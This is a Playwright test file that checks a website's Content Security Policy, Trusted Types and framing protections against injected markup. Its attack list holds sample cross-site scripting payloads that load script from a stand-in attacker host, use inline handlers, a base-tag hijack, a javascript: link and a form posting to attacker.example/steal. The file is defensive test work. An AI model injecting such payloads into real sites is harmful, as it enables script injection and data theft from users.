import type { Page } from "@playwright/test";
import { DENIED_FEATURES } from "../../src/host/security-headers";
import { expect, hydrated, SITE_URL, test, visit } from "./support/test";

const FOREIGN = "https://attacker.example";

declare global {
  interface Window {
    /** Set by an attack that has come through. */
    attacked?: string;
    /** Not yet in TypeScript's library. */
    trustedTypes?: { createPolicy(name: string, rules: object): unknown };
  }
}

/** What the policy stopped in a page and the pages after it: directive and address. */
async function watchViolations(page: Page): Promise<string[]> {
  const violations: string[] = [];
  await page.exposeFunction("reportViolation", (text: string) => void violations.push(text));
  await page.addInitScript(() => {
    addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
      (window as unknown as { reportViolation(text: string): void }).reportViolation(
        `${effectiveDirective} ${blockedURI}`,
      );
    });
  });
  return violations;
}

/** Serves a page with markup of an attacker in its body, under the site's own headers. */
async function inject(page: Page, path: string, markup: string): Promise<void> {
  await page.route(SITE_URL + path, async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace('<div id="___gatsby">', `${markup}$&`);
    await route.fulfill({ response, body });
  });
  await page.goto(path);
}

test.describe("the policy stops", () => {
  test.beforeEach(({ problems }) =>
    problems.allow(/Content Security Policy|Trusted|attacker\.example/i),
  );

  /** Markup of an attacker, and what the policy says of it. */
  const ATTACKS = [
    ["<script>window.attacked='script'</script>", "script-src-elem inline"],
    [`<script src="${FOREIGN}/x.js"></script>`, `script-src-elem ${FOREIGN}/x.js`],
    [
      `<img src="/favicon.svg" alt="" onload="window.attacked='handler'">`,
      "script-src-attr inline",
    ],
    [`<iframe src="${FOREIGN}/" title="a"></iframe>`, `frame-src ${FOREIGN}`],
    [`<img src="${FOREIGN}/x.gif" alt="">`, `img-src ${FOREIGN}/x.gif`],
    ["<style>body { display: none }</style>", "style-src-elem inline"],
    [`<base href="${FOREIGN}/">`, `base-uri ${FOREIGN}`],
  ];

  test("scripts, handlers, frames, pictures, styles and a base in the HTML", async ({ page }) => {
    const violations = await watchViolations(page);
    await inject(page, "/faq", ATTACKS.map(([markup]) => markup).join(""));
    const stopped = ATTACKS.map(([, violation]) => violation);
    await expect
      .poll(() => violations.map((text) => text.replace(/\/$/, "")))
      .toEqual(expect.arrayContaining(stopped));
    await hydrated(page);
    expect(await page.evaluate(() => window.attacked)).toBeUndefined();
    expect(page.url()).toBe(`${SITE_URL}/faq`);
  });

  test("a javascript: link, and a form that sends to another site", async ({ page }) => {
    const violations = await watchViolations(page);
    await inject(
      page,
      "/faq",
      `<a href="javascript:window.attacked='link'">Attack</a>
       <form action="${FOREIGN}/steal"><button>Attack</button></form>`,
    );
    await page.getByRole("link", { name: "Attack" }).click();
    await expect.poll(() => violations).toContain("script-src-elem inline");
    // Not by Playwright, which would wait for the page that a form leads to.
    await page.getByRole("button", { name: "Attack" }).dispatchEvent("click");
    await expect.poll(() => violations).toContain(`form-action ${FOREIGN}/steal?`);
    expect(await page.evaluate(() => window.attacked)).toBeUndefined();
    expect(page.url()).toBe(`${SITE_URL}/faq`);
  });

  test("a string that becomes script, markup or a script's address", async ({ page }) => {
    await visit(page, "/faq");
    const outcomes = await page.evaluate(async () => {
      const script = document.createElement("script");
      const attempts: (() => unknown)[] = [
        () => {
          script.src = "/app.js";
        },
        () => {
          script.textContent = "attack()";
        },
        () => {
          document.body.innerHTML = "<p>attack</p>";
        },
        // biome-ignore lint/security/noGlobalEval: an attack
        () => eval("1"),
        () => setTimeout("attack()", 0),
        () => window.trustedTypes?.createPolicy("mine", {}),
      ];
      // The test's own code may do all that; a timer's is the page's.
      await new Promise((done) => setTimeout(done, 0));
      return attempts.map((attempt) => {
        try {
          attempt();
          return "allowed";
        } catch (error) {
          return error instanceof Error ? error.name : "refused";
        }
      });
    });
    expect(outcomes).toEqual(Array(6).fill(expect.stringMatching(/^(Type|Eval)Error$/)));
  });
});

test("a foreign page can't show the site in a frame", async ({ page, problems }) => {
  problems.allow(/./);
  await page.route(`${FOREIGN}/`, (route) =>
    route.fulfill({
      contentType: "text/html",
      body: `<iframe src="${SITE_URL}/contact" title="a"></iframe>`,
    }),
  );
  await page.goto(`${FOREIGN}/`);
  await expect.poll(() => page.frames()[1]?.url()).toBe("chrome-error://chromewebdata/");
});

test("the browser knows every feature that the header names, and denies it", async ({ page }) => {
  await visit(page, "/");
  const { known, allowed } = await page.evaluate(() => {
    type FeaturePolicy = { features(): string[]; allowedFeatures(): string[] };
    const { featurePolicy } = document as Document & { featurePolicy: FeaturePolicy };
    return { known: featurePolicy.features(), allowed: featurePolicy.allowedFeatures() };
  });
  expect(DENIED_FEATURES.filter((name) => !known.includes(name))).toEqual([]);
  expect(allowed.filter((name) => DENIED_FEATURES.includes(name))).toEqual([]);
  expect(allowed).toContain("clipboard-write");
});
